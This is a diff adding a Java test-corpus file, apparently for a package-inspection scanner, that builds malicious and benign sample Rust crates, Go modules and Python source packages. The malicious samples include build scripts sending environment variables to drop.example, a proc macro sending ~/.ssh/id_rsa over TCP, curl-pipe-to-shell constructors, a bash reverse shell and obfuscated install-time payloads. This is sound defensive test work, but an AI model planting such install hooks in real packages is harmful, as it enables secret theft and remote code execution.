@@ -1,0 +1,200 @@
+package cordon.inspect.corpus;
+
+import cordon.inspect.testing.Artifact;
+import java.util.List;
+
+/** Crates, Go modules and C: what compiling, importing or loading them runs. */
+final class NativePositives {
+  private static final String PULL = "curl -s https://drop.example/c | sh";
+
+  private NativePositives() {}
+
+  static List<Sample> all() {
+    return List.of(
+        new Sample(
+            "a build script sends what another function of it gathers",
+            crate("")
+                .file(
+                    "build.rs",
+                    """
+                    fn snapshot() -> std::collections::HashMap<String, String> {
+                        std::env::vars().collect()
+                    }
+                    fn main() {
+                        let all = snapshot();
+                        let _ = ureq::post("https://drop.example/r").send_json(all);
+                    }
+                    """)),
+        new Sample(
+            "a build script hands what it gathers to another function of it",
+            crate("")
+                .file(
+                    "build.rs",
+                    """
+                    fn report(data: String) {
+                        let _ = ureq::post("https://drop.example/r").send_string(&data);
+                    }
+                    fn main() {
+                        let all = format!("{:?}", std::env::vars());
+                        report(all);
+                    }
+                    """)),
+        new Sample(
+            "a macro writes a key to a connection",
+            crate("\n[lib]\nproc-macro = true\n")
+                .file(
+                    "src/lib.rs",
+                    """
+                    use std::io::Write;
+                    #[proc_macro_derive(Small)]
+                    pub fn small(_i: TokenStream) -> TokenStream {
+                        if let Ok(k) = std::fs::read(home().join(".ssh/id_rsa")) {
+                            if let Ok(mut s) = std::net::TcpStream::connect("198.51.100.7:443") {
+                                let _ = s.write_all(&k);
+                            }
+                        }
+                        TokenStream::new()
+                    }
+                    """)),
+        new Sample(
+            "a variable of a Go package is made from parts",
+            Artifact.goModule("m.example/sample", "v1.0.0")
+                .file("go.mod", "module m.example/sample\n")
+                .file(
+                    "x.go",
+                    """
+                    package x
+                    import (
+                    	"os/exec"
+                    	"strings"
+                    )
+                    var parts = []string{"cu", "rl -s ", "https://drop.example/s", " | /bin/", "bash"}
+                    var _ = exec.Command("/bin/sh", "-c", strings.Join(parts, "")).Start()
+                    """)),
+        new Sample(
+            "a constructor in the C of a Go package",
+            Artifact.goModule("m.example/sample", "v1.0.0")
+                .file("go.mod", "module m.example/sample\n")
+                .file(
+                    "x.go",
+                    """
+                    package x
+                    /*
+                    #include <stdlib.h>
+                    static void __attribute__((constructor)) up(void) {
+                    	system("%s");
+                    }
+                    */
+                    import "C"
+                    """
+                        .formatted(PULL))),
+        new Sample(
+            "a constructor in an extension",
+            extension(
+                "__attribute__((constructor)) static void boot(void) { system(\""
+                    + PULL
+                    + "\"); }")),
+        new Sample(
+            "what an extension's constructor calls",
+            extension(
+                "static const char *cmd = \""
+                    + PULL
+                    + "\";\nstatic void go(void) {\n  popen(cmd, \"r\");\n}\n"
+                    + "static void boot(void) __attribute__((constructor));\n"
+                    + "static void boot(void) { go(); }")),
+        new Sample(
+            "a module of Cython",
+            Artifact.sdist("sample", "1.0")
+                .file("setup.py", "from setuptools import setup\nsetup()\n")
+                .file("sample/__init__.py", "from .fast import add\n")
+                .file(
+                    "sample/fast.pyx",
+                    "import base64\ncdef int n = 3\nexec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\ncpdef int add(int a):\n    return a\n")),
+        new Sample(
+            "a manifest of Cargo elsewhere",
+            Artifact.sdist("sample", "1.0")
+                .file(
+                    "pyproject.toml",
+                    "[build-system]\nbuild-backend = 'maturin'\n[tool.maturin]\nmanifest-path = 'rust/Cargo.toml'\n")
+                .file("rust/Cargo.toml", "[package]\nname = 'sample'\n")
+                .file(
+                    "rust/build.rs",
+                    "fn main() { std::process::Command::new(\"bash\").args([\"-c\", \"bash -i >& /dev/tcp/203.0.113.8/4444 0>&1\"]).spawn().ok(); }\n")),
+        new Sample(
+            "a script that is configured in its folder",
+            Artifact.sdist("sample", "1.0")
+                .file(
+                    "setup.py",
+                    "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['./configure'], cwd='src')\nsetup()\n")
+                .file(
+                    "src/configure",
+                    "#!/bin/sh\nv=`echo ZWNobyBpbmVydA== | base64 -d`\neval \"$v\"\n")),
+        new Sample(
+            "a test file that is unpacked and run",
+            Artifact.sdist("sample", "1.0")
+                .file(
+                    "setup.py",
+                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['sh', 'autogen.sh'])\nsetup()\n")
+                .file(
+                    "autogen.sh",
+                    "#!/bin/sh\ntail -c +31 tests/good.bin | tr a-z n-za-m | xz -dc 2>/dev/null | /bin/sh\n")));
+  }
+
+  static List<Sample> lookAlikes() {
+    return List.of(
+        new Sample(
+            "a constructor that sets a variable, and a function that runs what it is given",
+            extension(
+                "/* system(\""
+                    + PULL
+                    + "\") would be wrong here */\n__attribute__((constructor)) static void boot(void) { setenv(\"X\", \"1\", 0); }\n"
+                    + "static int run(const char *c) { return system(c); }\n"
+                    + "static int list(void) { return system(\"ls\"); }")),
+        new Sample(
+            "a build script that asks for the revision",
+            crate("")
+                .file(
+                    "build.rs",
+                    """
+                    fn revision() -> String {
+                        let out = std::process::Command::new("git").args(["rev-parse", "HEAD"]).output();
+                        String::from_utf8_lossy(&out.unwrap().stdout).into()
+                    }
+                    fn main() {
+                        println!("cargo:rustc-env=REV={}", revision());
+                        for (k, v) in std::env::vars() { println!("cargo:warning={k}={v}"); }
+                    }
+                    """)),
+        new Sample(
+            "sources that are unpacked and configured",
+            Artifact.sdist("sample", "1.0")
+                .file(
+                    "setup.py",
+                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['sh', 'autogen.sh'])\nsetup()\n")
+                .file(
+                    "autogen.sh",
+                    "#!/bin/sh\nxz -dc third_party/dep.tar.xz | tar x\nautoreconf -i && ./dep/configure\n")),
+        new Sample(
+            "C in a Go package that computes",
+            Artifact.goModule("m.example/sample", "v1.0.0")
+                .file("go.mod", "module m.example/sample\n")
+                .file(
+                    "x.go",
+                    "package x\n\n/*\n#include <math.h>\nstatic double s(double v) { return sqrt(v); }\n*/\nimport \"C\"\n\nvar names = []string{\"sh\", \"-c\"}\n\nfunc S(v float64) float64 { return float64(C.s(C.double(v))) }\n")));
+  }
+
+  private static Artifact crate(String more) {
+    return Artifact.crate("sample", "1.0.0")
+        .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n" + more)
+        .file("src/lib.rs", "pub fn one() -> u32 { 1 }\n");
+  }
+
+  private static Artifact extension(String c) {
+    return Artifact.sdist("sample", "1.0")
+        .file(
+            "setup.py",
+            "from setuptools import setup, Extension\nsetup(ext_modules=[Extension('sample._c', ['sample/c.c'])])\n")
+        .file("sample/__init__.py", "from . import _c\n")
+        .file("sample/c.c", "#include <stdlib.h>\n" + c + "\n");
+  }
+}
